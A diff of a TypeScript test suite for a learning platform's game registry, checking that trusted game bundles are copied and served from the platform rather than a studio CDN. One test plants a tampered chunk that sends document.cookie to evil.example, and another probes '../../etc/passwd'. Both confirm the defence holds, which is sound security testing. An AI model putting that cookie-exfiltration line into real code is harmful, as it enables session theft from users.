@@ -111,10 +111,11 @@ describe('/api/admin/games', () => {
     expect(v1).toMatchObject({ label: '1.0.0', active: true, integrity: sri('/* hauptstaedte v1 */'), created_by: 'Ada Admin' });
     expect((await call('POST', '/api/admin/games', boss, { ...NEW_GAME, manifest_url: cdn.url('v1') })).error?.code).toBe('GAME_EXISTS');
 
-    // The registry's view for the shell: in the manifest with its hash, its origin in the CSP.
+    // The registry's view for the shell: in the manifest with its hash, served from the platform's own copy; the
+    // studio's origin is no script source.
     const manifest = await t.deps.games.manifestGames();
-    expect(manifest.hauptstaedte).toMatchObject({ entry: cdn.url('v1', 'remoteEntry.js'), integrity: v1.integrity, provider: 'Team Geografie', lessons: true, quizId: 'HAUPTSTAEDTE' });
-    expect((await t.deps.games.origins()).bundle).toContain(cdn.base);
+    expect(manifest.hauptstaedte).toMatchObject({ entry: `/bundles/registry/${v1.id}/remoteEntry.js`, integrity: v1.integrity, provider: 'Team Geografie', lessons: true, quizId: 'HAUPTSTAEDTE' });
+    expect((await t.deps.games.origins()).bundle).not.toContain(cdn.base);
 
     // A lesson holds it; a student plays it; the result is stored unverified (no replay for another team's game).
     const block = await appendBlock(call, w.owner, w.visible.id, { type: 'game', content: { gameId: 'hauptstaedte' } });
@@ -142,10 +143,10 @@ describe('/api/admin/games', () => {
     expect(v2).toMatchObject({ active: false, integrity: sri('/* hauptstaedte v2 */') });
     expect((await call('POST', '/api/admin/games/hauptstaedte/versions', boss, { manifest_url: cdn.url('v2'), label: '1.1.0' })).error?.code).toBe('GAME_VERSION_EXISTS');
     await call('POST', `/api/admin/games/hauptstaedte/versions/${v2.id}/activate`, boss);
-    expect((await t.deps.games.manifestGames()).hauptstaedte).toMatchObject({ entry: cdn.url('v2', 'remoteEntry.js'), version: v2.id });
+    expect((await t.deps.games.manifestGames()).hauptstaedte).toMatchObject({ entry: `/bundles/registry/${v2.id}/remoteEntry.js`, version: v2.id });
     const rolledBack = await call('POST', `/api/admin/games/hauptstaedte/versions/${v1.id}/activate`, boss);
     expect(rolledBack.body.versions.filter((v) => v.active).map((v) => v.id)).toEqual([v1.id]);
-    expect((await t.deps.games.manifestGames()).hauptstaedte?.entry).toBe(cdn.url('v1', 'remoteEntry.js'));
+    expect((await t.deps.games.manifestGames()).hauptstaedte?.entry).toBe(`/bundles/registry/${v1.id}/remoteEntry.js`);
 
     // Failures reported by pages count per version on the admin list.
     await call('POST', '/api/games/failures', w.enrolled, { game_key: 'hauptstaedte', version: v1.id, kind: 'mount' });
@@ -160,6 +161,73 @@ describe('/api/admin/games', () => {
     expect((await call('POST', rounds, w.enrolled)).error?.code).toBe('GAME_DISABLED');
     await call('PATCH', '/api/admin/games/hauptstaedte', boss, { enabled: true });
     expect((await call('POST', rounds, w.enrolled)).status).toBe(201);
+  });
+
+  it("a trusted game's every file is taken into the platform's keeping: a chunk changed on the studio's CDN is never served", async () => {
+    const boss = await admin();
+    const entry = `import('./assets/game-a1.js');`;
+    const chunk = `const flag = new URL('../img/flag-ch.svg', import.meta.url); import('./lazy-b2.js'); export default flag;`;
+    const files = {
+      'assets/game-a1.js': chunk, 'assets/lazy-b2.js': 'export const lazy = 1;', 'img/flag-ch.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
+      'assets/listed-c3.js': 'export const listed = 1;',
+    };
+    const manifest = { ...gameManifest('game_alpenpaesse'), exposes: [{ name: 'Game', path: './Game', assets: { js: { sync: ['assets/listed-c3.js'], async: [] }, css: { sync: [], async: [] } } }] };
+    cdn.bundles.set('alp', { manifest, entry, cors: true, files });
+    const added = await call('POST', '/api/admin/games', boss, { ...NEW_GAME, key: 'alpenpaesse', quiz_id: 'ALPENPAESSE', manifest_url: cdn.url('alp'), label: '1.0.0' });
+    expect(added.status, JSON.stringify(added.body)).toBe(201);
+    const version = added.body.versions[0]!.id;
+    const served = (path: string) => t.app.request(`/bundles/registry/${version}/${path}`);
+
+    // Entry, listed asset, imported chunk, the chunk's lazy import and its image: all served from the platform.
+    expect((await t.deps.games.manifestGames()).alpenpaesse?.entry).toBe(`/bundles/registry/${version}/remoteEntry.js`);
+    for (const [path, body] of [['remoteEntry.js', entry], ...Object.entries(files)] as const) {
+      const res = await served(path);
+      expect(res.status, path).toBe(200);
+      expect(await res.text(), path).toBe(body);
+      expect(res.headers.get('cache-control')).toContain('immutable');
+      expect(res.headers.get('access-control-allow-origin')).toBe('*');
+    }
+    expect((await served('assets/game-a1.js')).headers.get('content-type')).toMatch(/^text\/javascript/);
+    const svg = await served('img/flag-ch.svg');
+    expect(svg.headers.get('content-type')).toBe('image/svg+xml');
+    expect(svg.headers.get('content-security-policy')).toContain('sandbox');
+    expect((await served('assets/unknown.js')).status).toBe(404);
+    expect((await served('../../etc/passwd')).status).toBe(404);
+
+    // The studio changes a chunk (and the entry) after registration: the platform keeps serving the checked bytes,
+    // and the studio's origin is no script source, so a browser would not run the changed chunk from there either.
+    cdn.bundles.set('alp', { manifest, entry: `${entry} /* evil */`, cors: true, files: { ...files, 'assets/game-a1.js': 'fetch("https://evil.example/?" + document.cookie)' } });
+    expect(await (await served('assets/game-a1.js')).text()).toBe(chunk);
+    expect(await (await served('remoteEntry.js')).text()).toBe(entry);
+    expect((await t.deps.games.origins()).bundle).not.toContain(cdn.base);
+    const row = await t.sql<{ integrity: string }[]>`select integrity from game_versions where id = ${version}`;
+    expect(row[0]!.integrity).toBe(sri(entry));
+
+    // A listed file missing on the CDN: the registration is refused with the German reason, nothing stored.
+    cdn.bundles.set('broken', { manifest, entry, cors: true, files: { ...files, 'assets/listed-c3.js': undefined as unknown as string } });
+    const refused = await call('POST', '/api/admin/games', boss, { ...NEW_GAME, key: 'kaputt', quiz_id: 'KAPUTT', manifest_url: cdn.url('broken'), label: '1' });
+    expect(refused.status).toBe(422);
+    expect(refused.error).toMatchObject({ code: 'GAME_BUNDLE_UNREACHABLE', message: expect.stringContaining('assets/listed-c3.js') });
+    expect(await t.sql`select key from games where key = 'kaputt'`).toHaveLength(0);
+  });
+
+  it('versions registered before builds were taken in are taken in at start, unless their entry changed since', async () => {
+    const entry = `import('./assets/early-1.js');`;
+    cdn.bundles.set('early', { manifest: gameManifest('game_frueh'), entry, cors: true, files: { 'assets/early-1.js': 'export default 1;' } });
+    cdn.bundles.set('moved', { manifest: gameManifest('game_verschoben'), entry: '/* changed since */', cors: true });
+    for (const [key, name, version, integrity] of [['frueh', 'game_frueh', 'early', sri(entry)], ['verschoben', 'game_verschoben', 'moved', sri('/* as checked */')]] as const) {
+      await t.sql`insert into games (key, title, provider, federation_name, quiz_id, result_keys) values (${key}, ${key}, 'Team', ${name}, ${key.toUpperCase()}, ${['Punkte']})`;
+      await t.sql`insert into game_versions (game_key, label, entry_url, integrity, active) values (${key}, '1', ${cdn.url(version, 'remoteEntry.js')}, ${integrity}, true)`;
+    }
+    t.deps.games.invalidate();
+    expect((await t.deps.games.manifestGames()).frueh?.entry).toBe(cdn.url('early', 'remoteEntry.js'));
+    expect(await t.deps.games.takeInEarlierVersions()).toBe(1);
+    const [early] = await t.sql<{ id: string }[]>`select id from game_versions where game_key = 'frueh'`;
+    expect((await t.deps.games.manifestGames()).frueh?.entry).toBe(`/bundles/registry/${early!.id}/remoteEntry.js`);
+    expect(await (await t.app.request(`/bundles/registry/${early!.id}/assets/early-1.js`)).text()).toBe('export default 1;');
+    // Its entry changed since registration: left as it was (the shell's integrity check refuses it).
+    expect((await t.deps.games.manifestGames()).verschoben?.entry).toBe(cdn.url('moved', 'remoteEntry.js'));
+    expect(await t.deps.games.takeInEarlierVersions()).toBe(0);
   });
 
   it('a sandboxed game needs its own page on its own origin; its origin is a frame source only', async () => {
